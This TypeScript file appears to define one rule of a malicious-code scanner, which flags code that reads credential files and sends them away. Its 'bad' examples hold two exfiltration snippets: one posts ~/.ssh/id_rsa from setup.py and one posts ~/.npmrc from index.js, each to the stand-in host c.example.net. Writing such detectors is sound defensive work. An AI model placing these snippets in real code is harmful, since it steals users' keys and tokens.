import type { FileCheck } from '../../check.ts';

export const check: FileCheck = {
  id: 'data-handling-file-exfiltration',
  title: 'A file with credentials is sent away',
  severity: 'critical',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    Keys, tokens, wallets and browser passwords lie in files with known names. Code that reads one of them and hands it to
    a server takes over whatever they open.`,
  fix: 'Remove it, and renew every credential of the machines that ran it.',
  blindSpots: 'Paths that are put together from parts, and files that are packed into an archive first, are not seen.',
  wants: { acts: ['secret-file-sent'] },
  examples: {
    bad: [
      {
        'setup.py': `
          key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
          «requests.post("https://c.example.net/k", data=key)»`,
      },
      {
        'index.js': `
          const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
          «fetch('https://c.example.net/', { method: 'POST', body: token })»;`,
      },
    ],
    good: [
      { 'ssh.py': 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\n' },
      { 'send.py': 'data = open("report.csv").read()\nrequests.post(url, data=data)\n' },
    ],
  },

  *find({ acts, span }) {
    for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
  },
};
